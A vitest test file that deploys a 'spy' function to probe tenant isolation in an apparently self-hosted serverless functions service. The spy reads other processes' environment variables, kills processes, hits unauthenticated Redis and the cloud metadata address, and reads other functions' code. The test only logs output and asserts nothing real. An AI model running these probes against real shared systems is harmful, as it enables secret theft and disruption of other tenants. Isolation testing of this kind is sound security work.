import { afterAll, beforeAll, expect, it } from 'vitest';
import { FunctionsFixture } from './functions.fixture.js';
const functions = new FunctionsFixture(`704000-704255`);
beforeAll(() => functions.start());
afterAll(() => functions.stop());

it('tries', async () => {
  await functions.node('victim', `exports.handler = async () => { const fs=require('fs'); fs.mkdirSync(process.env.TMPDIR+'/d'); fs.writeFileSync(process.env.TMPDIR+'/d/own','private'); return { pid: process.pid, tmp: process.env.TMPDIR, api: process.env.AWS_LAMBDA_RUNTIME_API, uid: process.getuid() }; };`, { environment: { SECRET: 's3cret' } });
  const victim = (await functions.result<Record<string, unknown>>('victim')).payload;
  const redis = new URL(functions.service.url);
  await functions.node('spy', `
const fs = require('node:fs'), net = require('node:net'), cp = require('node:child_process'), os = require('node:os');
const attempt = (work) => { try { const v = work(); return v === undefined ? 'done' : v; } catch (error) { return error.code || String(error); } };
const talk = (host, port, text) => new Promise((resolve) => { const s = net.connect(port, host, () => s.write(text)); s.on('data', (d) => { resolve(d.toString().slice(0,200)); s.destroy(); }); s.on('error', (e) => resolve(e.code)); s.on('close', () => resolve('closed')); setTimeout(() => { resolve('silence'); s.destroy(); }, 1500); });
const curl = (url) => fetch(url).then(async (r) => r.status + ' ' + (await r.text()).slice(0,150), (e) => (e.cause && e.cause.code) || e.message);
exports.handler = async ({ victim, redis, dataDir, servicePid, service }) => ({
  data: attempt(() => fs.readdirSync(dataDir)),
  initEnviron: attempt(() => fs.readFileSync('/proc/1/environ', 'latin1').length),
  serviceEnviron: attempt(() => fs.readFileSync('/proc/' + servicePid + '/environ', 'latin1').length),
  serviceCmdline: attempt(() => fs.readFileSync('/proc/' + servicePid + '/cmdline', 'latin1').replaceAll('\\0', ' ').slice(0, 100)),
  victimCmdline: attempt(() => fs.readFileSync('/proc/' + victim.pid + '/cmdline', 'latin1').replaceAll('\\0', ' ').slice(0,100)),
  victimStatus: attempt(() => fs.readFileSync('/proc/' + victim.pid + '/status', 'latin1').split('\\n')[0]),
  victimEnviron: attempt(() => fs.readFileSync('/proc/' + victim.pid + '/environ', 'latin1')),
  victimCwd: attempt(() => fs.readlinkSync('/proc/' + victim.pid + '/cwd')),
  processes: attempt(() => fs.readdirSync('/proc').filter((n) => /^\\d+$/.test(n)).length),
  killVictim: attempt(() => process.kill(victim.pid, 'SIGKILL')),
  killService: attempt(() => process.kill(servicePid, 'SIGKILL')),
  tcp: attempt(() => fs.readFileSync('/proc/net/tcp', 'latin1').split('\\n').length),
  redisNoPassword: await talk(redis.host, redis.port, 'PING\\r\\n'),
  victimApi: await curl('http://' + victim.api + '/2018-06-01/runtime/invocation/next'),
  unsigned: await fetch(service + '/2015-03-31/functions/x/invocations', { method: 'POST', body: '{}' }).then(async (r) => r.status + ' ' + await r.text(), (e) => e.message),
  readyz: await curl(service + '/readyz'),
  metadata: await Promise.race([curl('http://169.254.169.254/latest/meta-data/'), new Promise((r) => setTimeout(() => r('timeout'), 1500))]),
  folder: attempt(() => fs.readdirSync(process.env.LAMBDA_TASK_ROOT + '/..')),
  otherCode: attempt(() => fs.readdirSync(process.env.LAMBDA_TASK_ROOT + '/..').map((n) => fs.readFileSync(process.env.LAMBDA_TASK_ROOT + '/../' + n + '/index.js', 'utf8').slice(0,40))),
  sandboxes: attempt(() => fs.readdirSync(process.env.TMPDIR + '/..')),
  ownTmpMode: (fs.statSync(process.env.TMPDIR).mode & 0o777).toString(8),
  victimTmp: attempt(() => fs.readdirSync(victim.tmp)),
  slashTmp: attempt(() => { fs.writeFileSync('/tmp/gh-tryout-' + process.getuid(), 'left'); return 'written'; }),
  shm: attempt(() => { fs.writeFileSync('/dev/shm/gh-tryout-' + process.getuid(), 'left'); return 'written'; }),
  mkdirVarTmp: attempt(() => fs.mkdirSync('/var/tmp/gatehouse-functions-999999')) ,
  rmVarTmp: attempt(() => fs.rmdirSync('/var/tmp/gatehouse-functions-999999')) ,
  abstract: await new Promise((resolve) => { const s = net.createServer().on('error', (e) => resolve(e.code)).listen('\\0gatehouse function uids 704256', () => { resolve('claimed'); s.close(); }); }),
  oomBefore: attempt(() => fs.readFileSync('/proc/self/oom_score_adj', 'utf8')),
  oomLower: attempt(() => { fs.writeFileSync('/proc/self/oom_score_adj', '0'); return fs.readFileSync('/proc/self/oom_score_adj', 'utf8'); }),
  nice: os.getPriority(), cpus: os.availableParallelism(),
  shmget: cp.spawnSync('ipcmk', ['-M', '1000']).stdout?.toString(),
  crontab: cp.spawnSync('crontab', ['-l']).error?.code ?? 'there',
  sudo: cp.spawnSync('su', ['-c', 'id']).status,
  sticky: attempt(() => { const d = process.env.TMPDIR + '/sticky'; fs.mkdirSync(d); fs.writeFileSync(d + '/f', ''); fs.chmodSync(d, 0o1777); }),
});`, { timeout: 20, memorySize: 512 });
  const { payload } = await functions.result('spy', { victim, redis: { host: redis.hostname, port: Number(redis.port) }, dataDir: functions.dataDir, servicePid: process.pid, service: functions.url });
  console.log(JSON.stringify(payload, null, 1));
  expect(1).toBe(1);
}, 60000);
